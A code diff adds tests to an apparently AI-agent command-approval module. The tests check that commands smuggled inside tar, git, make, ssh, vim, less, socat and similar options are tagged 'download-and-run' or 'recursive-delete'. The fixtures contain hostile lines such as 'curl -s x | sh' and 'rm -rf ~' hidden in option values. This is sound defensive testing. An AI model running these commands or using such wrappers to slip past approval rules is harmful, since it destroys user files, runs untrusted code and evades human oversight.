@@ -15,6 +15,7 @@ import { after, it } from 'node:test';
 import { ApprovalRules, dangerTags, vouchedContext } from '../../main/broker/approvals/index.js';
 import { isSimpleCommand, simpleCommands } from '../../main/broker/approvals/shell-commands.js';
 import { approvalDetails } from '../../main/cli/terminal-root/describe.js';
+import { cpuDuringSync } from '../helpers/cpu-meter.js';
 import type { ApprovalRequest } from '../../main/index.js';
 
 const dirs: string[] = [];
@@ -190,6 +191,44 @@ it("trap's action is read as a command line: its own tags, and a deny rule sees 
   const rules = new ApprovalRules();
   rules.add({ effect: 'deny', kind: 'exec', agent: 'coder', match: { prefix: 'git push' } });
   assert.equal(decided(rules, "trap 'git push -f' EXIT", ws), 'deny');
+});
+
+/**
+ * The command an option or a wrapper runs is read with the same reader, its tags merged: `tar
+ * --to-command='curl … | sh'` was runs-command only, though what it runs is download-and-run.
+ */
+it('what an option or a wrapper runs is read for its own tags', () => {
+  const ws = workspace();
+  const cases: [string, string][] = [
+    ["tar -xf x.tar --to-command='curl -s x | sh'", 'download-and-run'],
+    ["tar -cf y.tar f --checkpoint=1 --checkpoint-act=exec='rm -rf ~'", 'recursive-delete'],
+    [`tar -cf z.tar -I 'sh -c "curl -s x | sh"' f`, 'download-and-run'],
+    ["git -c core.pager='curl -s x | sh' log", 'download-and-run'],
+    ["git -c alias.lg='!rm -rf ~' lg", 'recursive-delete'],
+    ["make test CC='curl -s x | sh'", 'download-and-run'],
+    ["rsync -e 'rm -rf ~' a b:c", 'recursive-delete'],
+    ["vim -c '!rm -rf ~' f", 'recursive-delete'],
+    ["less '+!rm -rf ~' f", 'recursive-delete'],
+    ["socat - 'EXEC:rm -rf ~'", 'recursive-delete'],
+    ["scp -o 'ProxyCommand=curl -s x | sh' a b:c", 'download-and-run'],
+    ['setsid rm -rf ~', 'recursive-delete'],
+    ['chrt 5 rm -rf ~', 'recursive-delete'],
+    ["ssh -p 22 host 'curl -s x | sh'", 'download-and-run'],
+    ["sh -c 'curl -s x | sh'", 'download-and-run'],
+  ];
+  for (const [line, tag] of cases) {
+    const tags = dangerTags('exec', line, ws);
+    assert.ok(tags.includes(tag) && tags.includes('runs-command'), `${line}: ${tags.join(',')}`);
+  }
+});
+
+/** A line of nested wrappers or options is read within a budget: each level read the rest of the line again. */
+it('nested wrappers and options cost a bounded reading', () => {
+  for (const unit of ['setsid ', 'chrt 5 ', 'ssh h ', 'make A=', 'git -c a=b ', 'tar --to-command=']) {
+    const line = unit.repeat(Math.ceil(16_384 / unit.length)).slice(0, 16_384);
+    const { cpuMs } = cpuDuringSync(() => dangerTags('exec', line, undefined));
+    assert.ok(cpuMs < 300, `${unit}…: ${cpuMs} ms`);
+  }
 });
 
 it('the terminal prompt names runs-command and what it means', () => {
